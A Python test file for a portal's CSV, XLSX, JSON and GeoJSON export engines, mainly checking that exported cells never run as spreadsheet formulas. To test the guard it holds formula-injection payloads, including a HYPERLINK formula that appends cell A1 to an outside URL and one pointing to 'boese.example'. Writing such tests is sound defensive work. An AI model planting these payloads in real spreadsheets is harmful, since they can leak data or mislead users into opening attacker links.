"""The table engines: what goes in comes out again in every program, and nothing runs as a formula."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.web.documents.columns import Column, ColumnType, Description, Row
from portal.web.documents.csv import office_csv, open_csv
from portal.web.documents.files import save
from portal.web.documents.formulas import guarded, unguarded
from portal.web.documents.geojson import Centre, geojson
from portal.web.documents.json import json_array
from portal.web.documents.xlsx import CHARACTERS_PER_CELL, write_xlsx

COLUMNS = (
    Column("id", "Kennung"),
    Column("title", "Titel", meaning="Kurzer Titel des Bedarfs", width=40),
    Column("ags", "AGS", ColumnType.AGS),
    Column("people", "Menschen", ColumnType.INTEGER),
    Column("share", "Anteil", ColumnType.DECIMAL),
    Column("due", "Fällig", ColumnType.DATE),
    Column("changed", "Geändert", ColumnType.DATETIME),
    Column("groups", "Zielgruppen", ColumnType.LIST),
)
ID = UUID("01890000-0000-7000-8000-000000000001")
ROW: Row = {
    "id": ID,
    "title": "Bänke am Radweg; „beim alten Bahnhof“",
    "ags": "09778116",
    "people": -3,
    "share": Decimal("-0.25"),
    "due": date(2026, 2, 1),
    "changed": datetime(2026, 7, 1, 22, 30, tzinfo=UTC),
    "groups": ["Kinder, Jugendliche", "Familien"],
    "secret": "canary@example.org",
}
DESCRIPTION = Description(
    title="Bedarfe",
    source="Landkreis Unterallgäu",
    created_at=datetime(2026, 7, 1, 10, 0, tzinfo=UTC),
    licence="Nur für den Dienstgebrauch",
    filters=[("Status", "Bestätigt")],
    notes=["Ohne Namen."],
)
TRIGGERS = "=+-@\t\r"
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
hostile = st.builds(lambda lead, rest: lead + rest, st.sampled_from([*TRIGGERS, " =", "'=", "''+", "\n=", "＝"]), texts)


def office_rows(rows: list[Row]) -> list[list[str]]:
    text = b"".join(office_csv(COLUMNS, rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def open_rows(rows: list[Row]) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(b"".join(open_csv(COLUMNS, rows)).decode(), newline="")))


def test_office_csv_is_what_a_german_excel_opens() -> None:
    raw = b"".join(office_csv(COLUMNS, [ROW]))

    assert raw.startswith(b"\xef\xbb\xbfKennung;Titel;AGS;")
    assert raw.endswith(b"\r\n")
    assert office_rows([ROW])[1] == [
        str(ID),
        "Bänke am Radweg; „beim alten Bahnhof“",
        '="09778116"',
        "-3",
        "-0,25",
        "01.02.2026",
        "02.07.2026 00:30",
        "Kinder, Jugendliche | Familien",
    ]


def test_open_csv_is_what_a_program_reads() -> None:
    raw = b"".join(open_csv(COLUMNS, [ROW]))

    assert raw.startswith(b"id,title,ags,people,share,due,changed,groups\n")
    assert b"\r" not in raw
    assert open_rows([ROW])[0] == {
        "id": str(ID),
        "title": ROW["title"],
        "ags": "09778116",
        "people": "-3",
        "share": "-0.25",
        "due": "2026-02-01",
        "changed": "2026-07-01T22:30:00+00:00",
        "groups": "Kinder, Jugendliche | Familien",
    }


@pytest.mark.parametrize("value", ['09"&HYPERLINK("x")&"', "=1+1", "٠٩٧٧٨١١٦", "09778116\n", "", "0977811x"])
def test_only_digits_are_ever_written_as_the_constant_formula(value: str) -> None:
    cell = office_rows([{**ROW, "ags": value}])[1][2]

    assert cell == guarded(value)


@pytest.mark.parametrize("write", [office_csv, open_csv])
def test_a_heading_that_somebody_typed_is_no_formula_either(write: Any) -> None:
    typed = '=HYPERLINK("https://boese.example")'

    head = b"".join(write([Column(typed, typed)], [])).decode("utf-8-sig")

    assert next(csv.reader(io.StringIO(head)))[0].startswith("'=")


@given(st.one_of(texts, hostile))
def test_guard_can_be_undone_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.one_of(texts, hostile))
def test_guarded_text_never_starts_a_formula(text: str) -> None:
    assert guarded(text).lstrip()[:1] not in {*"=+-@＝＋－＠"}


@settings(max_examples=150)
@given(st.lists(st.one_of(texts, hostile), min_size=1, max_size=5))
def test_both_csv_profiles_give_back_every_text(titles: list[str]) -> None:
    rows: list[Row] = [{**ROW, "title": title, "groups": [title]} for title in titles]

    office = [(line[1], line[7]) for line in office_rows(rows)[1:]]
    openly = [(line["title"], line["groups"]) for line in open_rows(rows)]

    assert [tuple(map(unguarded, pair)) for pair in office] == [(title, title) for title in titles]
    assert [tuple(map(unguarded, pair)) for pair in openly] == [(title, title) for title in titles]


def test_xlsx_keeps_types_text_and_code_book(tmp_path: Path) -> None:
    target = tmp_path / "bedarfe.xlsx"
    evil = '=HYPERLINK("https://example.org?"&A1,"hier")'

    count = write_xlsx(target, COLUMNS, [ROW, {**ROW, "title": evil}], DESCRIPTION)

    book = load_workbook(target)
    sheet, code_book = book.worksheets
    assert count == 2
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == [column.label for column in COLUMNS]
    assert [cell.value for cell in sheet[2]] == [
        str(ID),
        ROW["title"],
        "09778116",
        -3,
        -0.25,
        datetime(2026, 2, 1),  # noqa: DTZ001 - spreadsheets know no zones
        datetime(2026, 7, 2, 0, 30),  # noqa: DTZ001
        "Kinder, Jugendliche | Familien",
    ]
    assert (sheet["B3"].value, sheet["B3"].data_type) == (evil, "s")
    assert sheet["C2"].data_type == "s"
    assert code_book.title == "Beschreibung"
    told = {row[0].value: row[1].value for row in code_book.iter_rows() if row[0].value}
    assert told["Quelle"] == "Landkreis Unterallgäu"
    assert told["Stand"] == "01.07.2026 12:00 Uhr"
    assert told["Anzahl Zeilen"] == "2"
    assert told["Lizenz"] == "Nur für den Dienstgebrauch"
    assert told["Status"] == "Bestätigt"
    assert told["Titel"] == "title"


@settings(max_examples=25, deadline=None)
@given(title=st.one_of(hostile, texts))
def test_xlsx_never_holds_a_formula(title: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    target = tmp_path_factory.mktemp("xlsx") / "t.xlsx"
    columns = (Column("title", title[:20] or "Titel"),)

    write_xlsx(target, columns, [{"title": title}], DESCRIPTION)

    cells = [cell for row in load_workbook(target).worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert "f" not in {cell.data_type for cell in cells}


def test_xlsx_marks_a_text_that_no_cell_can_hold(tmp_path: Path) -> None:
    target = tmp_path / "lang.xlsx"

    write_xlsx(target, COLUMNS[1:2], [{"title": "😀" * 40_000}], DESCRIPTION)

    value = load_workbook(target).worksheets[0]["A2"].value
    assert isinstance(value, str)
    assert value.endswith(" … [gekürzt]")
    assert len(value.encode("utf-16-le")) // 2 <= CHARACTERS_PER_CELL


def test_xlsx_without_rows_still_has_its_header(tmp_path: Path) -> None:
    target = tmp_path / "leer.xlsx"

    assert write_xlsx(target, COLUMNS, [], DESCRIPTION) == 0

    assert [cell.value for cell in load_workbook(target).worksheets[0][1]][:2] == ["Kennung", "Titel"]


def test_json_holds_the_declared_columns_and_nothing_else() -> None:
    loaded = json.loads(b"".join(json_array(COLUMNS, [ROW, {}])))

    assert loaded[0]["groups"] == ["Kinder, Jugendliche", "Familien"]
    assert loaded[0]["share"] == -0.25
    assert loaded[1] == {**dict.fromkeys(loaded[0]), "groups": []}
    assert "secret" not in loaded[0]
    assert json.loads(b"".join(json_array(COLUMNS, []))) == []


def test_geojson_puts_longitude_first_and_keeps_rows_without_a_place() -> None:
    def centre(row: Row) -> Centre | None:
        return Centre(lat=47.98765432, lon=10.3) if row.get("ags") else None

    loaded = json.loads(b"".join(geojson(COLUMNS, [ROW, {"id": "2"}], centre=centre)))

    assert loaded["type"] == "FeatureCollection"
    assert loaded["features"][0]["geometry"] == {"type": "Point", "coordinates": [10.3, 47.987654]}
    assert loaded["features"][0]["id"] == str(ID)
    assert loaded["features"][1]["geometry"] is None
    assert json.loads(b"".join(geojson(COLUMNS, [], centre=centre)))["features"] == []


@pytest.mark.parametrize("engine", [office_csv, open_csv, json_array])
def test_engines_write_while_they_read(engine: Any) -> None:
    taken = 0

    def rows() -> Iterator[Row]:
        nonlocal taken
        for _ in range(100_000):
            taken += 1
            yield ROW

    chunks = engine(COLUMNS, rows())
    for _ in range(3):
        next(chunks)

    assert taken < 1_000


def test_half_a_file_is_never_left_behind(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    def broken() -> Iterator[bytes]:
        yield b"half"
        raise RuntimeError("power cut")

    with pytest.raises(RuntimeError):
        save(target, broken())

    assert list(tmp_path.iterdir()) == []
    assert save(target, [b"a", b"bc"]) == 3
    assert target.read_bytes() == b"abc"
